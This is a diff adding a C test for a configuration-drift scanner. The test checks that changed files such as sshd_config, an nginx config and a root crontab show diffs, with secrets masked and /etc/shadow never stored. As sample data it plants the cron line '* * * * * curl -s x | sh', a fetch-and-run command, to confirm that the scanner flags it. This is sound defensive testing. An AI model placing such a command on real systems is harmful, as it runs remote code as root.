@@ -1075,3 +1075,86 @@ Test(cli, scan_metrics_pass_promtool_whatever_the_source_is_called) {
         th_run_free(&r);
         free(odd);
 }
+
+/* content: a clone whose sshd_config, a cron file and an nginx-like config
+ * changed shows each file's diff (text and JSON), secrets masked on both
+ * sides, shadow never stored; an accept takes in the new text, and the
+ * next diff is against it. */
+Test(cli, changed_files_show_their_diff_with_secrets_masked_and_shadow_never_stored) {
+        char *t = th_join(work, "txt");
+        mkdir(t, 0755);
+        th_write(t, "etc/ssh/sshd_config", "PermitRootLogin no\nPasswordAuthentication no\nUsePAM yes\n");
+        th_write(t, "etc/nginx/site.conf", "server {\n  listen 80;\n  root /srv/www;\n}\n");
+        th_write(t, "etc/app.env", "DB_PASSWORD=hunter2\nHOST=db1\n");
+        th_write(t, "etc/shadow", "root:$6$saltsalt$TOPSECRETHASHabcdefgh:19000::\n");
+        th_write(t, "var/spool/cron/crontabs/root", "0 3 * * * /usr/local/bin/backup\n");
+        th_write(work, "content.yaml", "version: 1\ncontent:\n  paths: [/etc/**, /var/spool/cron/**]\n  max_file: 64K\n");
+        th_run r = th_vmdrift("baseline" A "capture" A "--dir" A "%s" A "--policy" A "%s/content.yaml" A "-o" A
+                              "%s/txt.vdb",
+                              t, work, work);
+        cr_assert_eq(r.status, 0, "%s%s", r.out, r.err);
+        th_run_free(&r);
+        /* what the baseline holds: the texts, masked; never shadow */
+        r = th_exec((const char *const[]){"python3", "-c",
+                                          "import sqlite3,sys,zlib\n"
+                                          "for (d,) in sqlite3.connect(sys.argv[1]).execute('select data from content'):\n"
+                                          "  print(zlib.decompress(d).decode())",
+                                          th_path(work, "txt.vdb"), NULL});
+        cr_assert_eq(r.status, 0, "%s", r.err);
+        cr_assert(strstr(r.out, "PermitRootLogin no") && strstr(r.out, "listen 80;") && strstr(r.out, "DB_PASSWORD=[masked:"),
+                  "%s", r.out);
+        cr_assert_null(strstr(r.out, "hunter2"), "%s", r.out);
+        cr_assert_null(strstr(r.out, "saltsalt"), "shadow is never stored: %s", r.out);
+        th_run_free(&r);
+
+        th_write(t, "etc/ssh/sshd_config", "PermitRootLogin yes\nPasswordAuthentication no\nUsePAM yes\n");
+        th_write(t, "etc/nginx/site.conf", "server {\n  listen 8080;\n  root /srv/www;\n}\n");
+        th_write(t, "etc/app.env", "DB_PASSWORD=correcthorse\nHOST=db1\n");
+        th_write(t, "etc/shadow", "root:$6$saltsalt$OTHERSECRETHASHabcdef:19001::\n");
+        th_write(t, "var/spool/cron/crontabs/root", "0 3 * * * /usr/local/bin/backup\n* * * * * curl -s x | sh\n");
+        r = th_vmdrift("scan" A "--dir" A "%s" A "--baseline" A "%s/txt.vdb" A "--policy" A "%s/content.yaml" A
+                       "--ignore" A "mtime,ctime" A "--report" A "text" A "--report" A "json:%s/txt.json",
+                       t, work, work, work);
+        cr_assert_eq(r.status, 1, "%s%s", r.out, r.err);
+        cr_assert(strstr(r.out, "                | --- a/etc/ssh/sshd_config\n                | +++ b/etc/ssh/sshd_config\n"
+                                "                | @@ -1,3 +1,3 @@\n                | -PermitRootLogin no\n"
+                                "                | +PermitRootLogin yes\n"),
+                  "%s", r.out);
+        cr_assert(strstr(r.out, "                | -  listen 80;\n                | +  listen 8080;\n"), "%s", r.out);
+        cr_assert(strstr(r.out, "                |  0 3 * * * /usr/local/bin/backup\n                | +* * * * * curl -s x | sh\n"),
+                  "%s", r.out);
+        /* a changed secret is a changed line, never its value */
+        cr_assert(strstr(r.out, "                | -DB_PASSWORD=[masked:") && strstr(r.out, "                | +DB_PASSWORD=[masked:"),
+                  "%s", r.out);
+        cr_assert_null(strstr(r.out, "hunter2"));
+        cr_assert_null(strstr(r.out, "correcthorse"));
+        cr_assert_null(strstr(r.out, "a/etc/shadow"), "no diff of shadow: %s", r.out);
+        cr_assert_null(strstr(r.out, "SECRETHASH"), "%s", r.out);
+        th_run_free(&r);
+        r = th_exec((const char *const[]){"cat", th_path(work, "txt.json"), NULL});
+        cr_assert_eq(th_lines_with(r.out, "\"path\":\"/etc/ssh/sshd_config\"",
+                                   "\"diff\":\"--- a/etc/ssh/sshd_config\\n+++ b/etc/ssh/sshd_config\\n@@ -1,3 +1,3 @@\\n"
+                                   "-PermitRootLogin no\\n+PermitRootLogin yes\\n PasswordAuthentication no\\n UsePAM yes\\n\"",
+                                   NULL),
+                     1, "%s", r.out);
+        cr_assert_eq(th_lines_with(r.out, "\"path\":\"/etc/shadow\"", "\"diff\"", NULL), 0, "%s", r.out);
+        cr_assert_null(strstr(r.out, "correcthorse"));
+        th_run_free(&r);
+
+        /* accepted: the next diff is against the accepted text */
+        r = th_vmdrift("baseline" A "accept" A "--baseline" A "%s/txt.vdb" A "--dir" A "%s" A "-o" A "%s/txt2.vdb" A
+                       "--reason" A "port 8080" A "--path" A "/etc/nginx/site.conf" A "--policy" A "%s/content.yaml",
+                       work, t, work, work);
+        cr_assert_eq(r.status, 0, "%s%s", r.out, r.err);
+        th_run_free(&r);
+        th_write(t, "etc/nginx/site.conf", "server {\n  listen 8443;\n  root /srv/www;\n}\n");
+        r = th_vmdrift("scan" A "--dir" A "%s" A "--baseline" A "%s/txt2.vdb" A "--policy" A "%s/content.yaml" A
+                       "--ignore" A "mtime,ctime",
+                       t, work, work);
+        cr_assert_eq(r.status, 1, "%s%s", r.out, r.err);
+        cr_assert(strstr(r.out, "                | -  listen 8080;\n                | +  listen 8443;\n"), "%s", r.out);
+        cr_assert(strstr(r.out, "                | -PermitRootLogin no\n"), "not accepted: against the first text: %s",
+                  r.out);
+        th_run_free(&r);
+        free(t);
+}
